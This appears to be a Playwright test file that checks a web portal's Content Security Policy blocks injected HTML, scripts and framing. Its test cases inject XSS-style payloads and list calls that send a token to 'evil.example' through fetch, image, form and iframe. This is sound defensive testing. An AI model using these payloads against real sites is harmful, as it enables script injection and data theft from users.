// Verifies SEC-1.
import { expect, test, type Page } from '@playwright/test';
import { open } from './support/settled';
import { watchPolicy, type Watch } from './support/watchPolicy';

/** Opens a document into which an attacker has written HTML, if wanted without the policy in its header or in its meta element. */
async function openTampered(page: Page, tamper: { html: string; without?: 'header' | 'meta' }): Promise<Watch> {
  const watch = await watchPolicy(page);
  await page.route('**/mediareact/request-procedure', async (route) => {
    // The service worker's own request for the page needs no tampering.
    if (!route.request().isNavigationRequest()) return route.continue();
    const answer = await route.fetch();
    const headers = answer.headers();
    if (tamper.without === 'header') delete headers['content-security-policy'];
    const html = (await answer.text()).replace('</body>', `${tamper.html}</body>`);
    const body =
      tamper.without === 'meta' ? html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '') : html;
    await route.fulfill({ status: 200, headers, body });
  });
  await open(page, '/mediareact/request-procedure');
  return watch;
}

const planted = (page: Page): Promise<unknown> =>
  page.evaluate(() => (window as unknown as { planted?: unknown }).planted);

for (const without of [undefined, 'header', 'meta'] as const) {
  const how = without === undefined ? '' : ` even when the document comes without its ${without}`;

  test(`an injected script, handler, style, and HTML string are blocked${how}`, async ({ page }) => {
    const html =
      '<script>window.planted = 1</script><img src="/mediareact/none.png" alt="" onerror="window.planted = 1">';
    // The policy in the header has no style-src: only the one in the document has the hashes of its styles.
    const style = without === 'meta' ? '' : '<style>body { display: none }</style>';
    const watch = await openTampered(page, { html: html + style, ...(without && { without }) });
    expect(watch.refused.join()).toContain('script-src-elem: inline');
    expect(watch.refused.join()).toContain('script-src-attr: inline');
    expect(watch.refused.join().includes('style-src-elem: inline')).toBe(style !== '');
    const thrown = await page.evaluate(() => {
      try {
        document.body.innerHTML = '<b>planted</b>';
        return 'nothing';
      } catch (error) {
        return String(error);
      }
    });
    expect(thrown).toContain('TypeError');
    expect(await planted(page)).toBeUndefined();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect.poll(() => watch.refused.join()).toContain('require-trusted-types-for: trusted-types-sink');
  });
}

/** What a script that got in could still try, and the directive that stops it. */
const attempts = [
  ['code made of a string', 'require-trusted-types-for', "setTimeout('window.planted = 1')"],
  [
    'a script of another origin',
    'require-trusted-types-for',
    "document.createElement('script').src = 'https://evil.example/x.js'",
  ],
  [
    'an answer of the API as a script',
    'require-trusted-types-for',
    "document.createElement('script').src = '/mediareact/api/org/types'",
  ],
  ['a second policy for strings', 'trusted-types', "trustedTypes.createPolicy('mine', { createHTML: (text) => text })"],
  ['a call to another origin', 'connect-src', "fetch('https://evil.example/?token=1').catch(() => undefined)"],
  ['a picture of another origin', 'img-src', "new Image().src = 'https://evil.example/?token=1'"],
  [
    'a form to another origin',
    'form-action',
    "Object.assign(added('form'), { action: 'https://evil.example/' }).submit()",
  ],
  ['another base for links', 'base-uri', "added('base').href = 'https://evil.example/'"],
  ['an embedded page', 'frame-src', "added('iframe').src = 'https://evil.example/'"],
  ['a style attribute', 'style-src-attr', "document.body.setAttribute('style', 'display: none')"],
] as const;

test('an injected script can do nothing', async ({ page }) => {
  const watch = await openTampered(page, { html: '' });
  await page.evaluate('window.added = (name) => document.body.appendChild(document.createElement(name))');
  for (const [name, directive, script] of attempts) {
    await test.step(name, async () => {
      watch.refused.length = 0;
      await page.evaluate(`void (${script})`).catch(() => undefined);
      await expect.poll(() => watch.refused.some((refusal) => refusal.startsWith(`${directive}:`)), name).toBe(true);
    });
  }
  expect(await planted(page)).toBeUndefined();
  expect(page.url()).toContain('/mediareact/request-procedure');
});

// translated.spec.ts uses every screen of the portal under the policy.
test('the embedded server’s own pages cause no violation', async ({ page }) => {
  const watch = await watchPolicy(page);
  const pages = ['/outbox', '/faults', '/association', '/association/media/uploads', '/association/mascots/a.svg'];
  for (const address of pages) await page.goto(address, { waitUntil: 'networkidle' });
  expect(watch).toEqual({ refused: [], errors: [] });
});

test('no page can frame the portal', async ({ page }) => {
  await page.route('**/framing.html', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<iframe src="/mediareact/login"></iframe>' }),
  );
  await page.goto('/framing.html', { waitUntil: 'networkidle' });
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
});
